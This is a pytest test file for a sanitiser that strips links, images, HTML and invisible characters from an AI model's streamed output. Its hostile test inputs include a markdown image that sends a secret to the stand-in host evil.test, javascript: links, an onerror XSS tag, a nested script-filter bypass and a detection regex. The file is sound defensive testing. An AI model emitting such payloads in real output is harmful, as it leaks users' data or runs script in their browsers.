"""Nothing a model writes may load, run or lead anywhere."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from agents.sanitise import SafeStream, plain, safe

ACTIVE = re.compile(
    r"!\[[^\[\]]*\]\(|\]\(\s*(?:https?:|javascript:|//)|<(?:img|a|script|iframe|svg)\b|https?://\w|<https?:[^\s<>]*>",
    re.I,
)


@pytest.mark.parametrize(
    ("hostile", "expected"),
    [
        ("see ![x](https://evil.test/?q=secret) now", "see x now"),
        ("see ![x][ref] now", "see x now"),
        ("[click](https://evil.test)", "click"),
        ("[click](<javascript:alert(1)>)", "click"),
        ("[click](https://evil.test/a_(b))", "click"),
        ("[![x](https://a.test/i.png)](https://b.test)", "x"),
        ("at https://evil.test/x, they", "at evil.test/x, they"),
        ("at <https://evil.test/x>", "at evil.test/x"),
        ("at www.evil.test", "at evil.test"),
        ("<javascript:alert(1)>", "javascript:alert(1)"),
        ("`a https://evil.test b`", "`a evil.test b`"),
        ("httpshttps://://evil.test", "evil.test"),
        ("<img src=x onerror=alert(1)>hi", "hi"),
        ("<scr<script>ipt>alert(1)</script>", "alert(1)"),
        ("<!-- hidden -->shown", "shown"),
        ("broken <img src='https://evil.test", "broken "),
        ("text\n[ref]: https://evil.test\nmore", "text\n\nmore"),
        ("a\u200bb\u202ec\U000e0041d\x1b[0m", "abcd[0m"),
    ],
)
def test_markup_that_loads_or_leads_is_removed(hostile: str, expected: str):
    assert safe(hostile) == expected


@pytest.mark.parametrize(
    "text",
    [
        "x < y and y > z",
        "Use List<int> here.",
        "Born in 1945 [1][2].",
        "**bold** and `code` and | a | b |",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "family \U0001f468\u200d\U0001f469",
        "the data: all of it",
    ],
)
def test_plain_writing_is_left_alone(text: str):
    assert safe(text) == text


def test_a_link_to_a_cited_document_may_stay():
    assert safe("[notes](notes.md)", {"notes.md"}) == "[notes](notes.md)"
    assert safe("[notes](notes.md)") == "notes"


def test_plain_removes_only_what_cannot_be_seen():
    assert plain("a\r\nb\u200b ![x](y)") == "a\nb ![x](y)"


PIECES = st.lists(
    st.sampled_from(
        [
            "![",
            "[",
            "]",
            "(",
            ")",
            "x",
            " ",
            "https://",
            "evil.test",
            "<img ",
            "src=",
            ">",
            "<",
            "!",
            "\n",
            "1",
            ":",
        ]
    ),
    max_size=40,
)


@settings(max_examples=400)
@given(PIECES)
@example(["]", "(", "https://", " "])
def test_no_split_of_a_stream_lets_active_markup_through(pieces: list[str]):
    stream = SafeStream()
    shown = "".join([*(stream.push(piece) for piece in pieces), stream.flush()])
    for text in (shown, safe("".join(pieces))):
        assert not ACTIVE.search(text), text


def test_a_stream_of_prose_loses_nothing():
    text = "PagedAttention [1] stores (all) keys < values! See [2][3].\n\n- 東京 is x<y"
    for size in (1, 2, 7):
        stream = SafeStream()
        shown = [stream.push(text[at : at + size]) for at in range(0, len(text), size)]
        assert "".join([*shown, stream.flush()]) == text


def test_deep_nesting_loses_its_brackets():
    assert not ACTIVE.search(safe("[a](" * 200 + "https://evil.test" + ")" * 200))


def test_a_long_opening_cannot_hold_the_stream_for_ever():
    stream = SafeStream()
    shown = "".join([stream.push("![" + "a" * 2_000), stream.push("](https://evil.test)"), stream.flush()])
    assert len(shown) >= 2_000
    assert not ACTIVE.search(shown)
